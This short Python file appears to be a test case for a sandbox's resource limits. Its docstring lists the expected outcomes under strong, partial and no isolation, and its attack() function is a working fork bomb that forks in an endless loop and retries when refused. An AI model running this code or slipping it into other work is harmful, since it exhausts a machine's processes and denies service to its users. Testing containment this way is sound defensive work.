"""Forks for ever, in every child, and goes on when it is refused.

kind: exhaust
says: The program was stopped at its limit of 2 seconds
strong: holds
partial: not run: as an ordinary user it would use up that user's processes
none: not run: it would use up this machine's processes
never returns.
"""

import os


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            continue
